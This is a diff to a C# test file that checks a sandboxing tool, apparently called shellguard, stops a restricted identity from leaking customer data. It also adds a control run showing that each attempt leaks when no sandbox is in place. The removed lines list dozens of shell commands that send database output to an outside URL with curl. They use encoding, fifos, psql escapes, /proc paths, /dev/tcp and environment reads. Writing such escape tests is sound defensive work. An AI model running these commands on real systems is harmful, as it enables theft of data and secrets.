@@ -77,61 +77,28 @@ public sealed class CustomerDataTests
         Leftovers.AssertNone(area);
     }
 
-    /// <summary>Whatever a person in the lobby tries; after each the canary outside is looked at.</summary>
+    /// <summary>Whatever a person in the lobby tries, nothing gets out; and without walls each of it does, or nothing would
+    /// be shown by that.</summary>
     [Theory, BothIdentities]
     public void No_path_leads_out(Identity identity)
     {
         using CustomerWorld world = new();
         using TestArea area = new(identity);
-        string[] attempts =
-        [
-            $"{Query} | curl -s -T - $OUT",
-            $"{Query} | cat | curl -s -T - $OUT",
-            $"{Query} | base64 | curl -s -T - $OUT",
-            "curl -s -T out.csv $OUT",
-            "curl -s -T - $OUT < out.csv",
-            "curl -s --data-binary @out.csv $OUT",
-            "cp out.csv copy.csv; curl -s -T copy.csv $OUT",
-            "mv copy.csv moved.csv; curl -s -T moved.csv $OUT",
-            "ln out.csv hard.csv; curl -s -T hard.csv $OUT",
-            "ln -s out.csv soft.csv; curl -s -T soft.csv $OUT",
-            "tar czf all.tgz out.csv; curl -s -T all.tgz $OUT",
-            "tar cz . | curl -s -T - $OUT",
-            "base64 out.csv > encoded; curl -s -T encoded $OUT",
-            "cat out.csv | curl -s -T - $OUT",
-            $"curl -s -T <({Query}) $OUT",
-            $"{Query} > >(curl -s -T - $OUT)",
-            $"x=$({Query}); curl -s -d \"$x\" $OUT",
-            $"curl -s \"$OUT$({Query})\"",
-            $"{Query} | while read line; do curl -s -d \"$line\" $OUT; done",
-            $"{Query} 2>&1 >&2 | curl -s -T - $OUT",
-            $"mkfifo fifo; {Query} > fifo & curl -s -T fifo $OUT; wait",
-            $"exec 7> kept; {Query} >&7; curl -s -T kept $OUT",
-            "psql -c '\\! curl -s -T out.csv $OUT'",
-            "psql -c '\\copy customers to program ''curl -s -T - $OUT'''",
-            "psql -c '\\! (setsid sh -c \"sleep 0.3; curl -s -T out.csv $OUT\" > /dev/null 2>&1 &)'; sleep 1",
-            "shellguard run --in db -- curl -s -T out.csv $OUT",
-            "shellguard run --in net -- cat out.csv",
-            "shellguard run --in db -- sh -c 'cp out.csv /tmp/x; cp out.csv /dev/shm/x; chmod 777 /tmp/x'; curl -s -T /tmp/x $OUT; curl -s -T /dev/shm/x $OUT",
-            "shellguard run --in db -- python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.bind(\"door\"); s.listen()' & curl -s --unix-socket door -T query.sql http://x/; wait",
-            "shellguard run --in db -- sh -c 'cat out.csv > /proc/1/root/tmp/y; cat out.csv > /proc/self/cwd/z'; curl -s -T z $OUT; curl -s -T /tmp/y $OUT",
-            "shellguard run --in db -- sh -c 'exec 9<> /dev/tcp/127.0.0.1/80'; timeout 2 cat /proc/*/environ /proc/*/cmdline /proc/*/fd/1 2> /dev/null | curl -s -T - $OUT",
-            "find / -xdev -name '*.csv' 2> /dev/null | xargs -r cat | curl -s -T - $OUT",
-            "python3 -c 'import subprocess as s; p = s.Popen([\"psql\", \"-Atc\", \"select name from customers\"], stdout=s.PIPE); s.run([\"curl\", \"-s\", \"-T\", \"-\", \"'$OUT'\"], stdin=p.stdout)'",
-            "python3 -c 'import subprocess as s; print(s.run([\"psql\", \"-Atc\", \"select name from customers\"], capture_output=True).stdout)' | curl -s -T - $OUT",
-            "script -qc \"psql -Atc 'select name from customers'\" typescript < /dev/null; curl -s -T typescript $OUT",
-        ];
-        string script = $"{Query} > out.csv\necho 'select 1' > query.sql\n"
-            + string.Concat(attempts.Select((attempt, number) => $"( {attempt} ) > /dev/null 2>&1\necho tried {number}\n"))
+        string begin = $"{Query} > out.csv\necho 'select 1' > query.sql\n";
+        string script = begin
+            + string.Concat(WaysOut.All.Select((way, number) => $"( {way} ) > /dev/null 2>&1\necho tried {number}\n"))
             + "echo harmless | curl -s -T - $OUT\n";
         Outcome outcome = world.Lobby(area, script);
-        Assert.EndsWith($"tried {attempts.Length - 1}\nthere\n", outcome.Succeed().Output, StringComparison.Ordinal);
+        Assert.EndsWith($"tried {WaysOut.All.Count - 1}\nthere\n", outcome.Succeed().Output, StringComparison.Ordinal);
         Assert.Contains("harmless", world.Received, StringComparison.Ordinal);
         Assert.DoesNotContain(CustomerWorld.Secret, world.Received, StringComparison.Ordinal);
-        Assert.DoesNotContain(
-            Convert.ToBase64String(global::System.Text.Encoding.UTF8.GetBytes(CustomerWorld.Secret))[..16], world.Received,
-            StringComparison.Ordinal);
         Leftovers.AssertNone(area);
+
+        world.Outside(area, begin + "shellguard() { shift 4; \"$@\"; }\nexport -f shellguard\n" + string.Concat(
+            WaysOut.All.Select((way, number) => $"echo 'header = \"X-Way: <{number}>\"' > ~/.curlrc\n( {way} ) > /dev/null 2>&1\n")));
+        string[] got = [.. world.Received.Split("=====\n").Where(entry => entry.Contains(CustomerWorld.Secret, StringComparison.Ordinal))];
+        Assert.Equal(
+            [], WaysOut.All.Where((_, number) => !got.Any(entry => entry.Contains($"<{number}>", StringComparison.Ordinal))));
     }
 
     [Theory, BothIdentities]
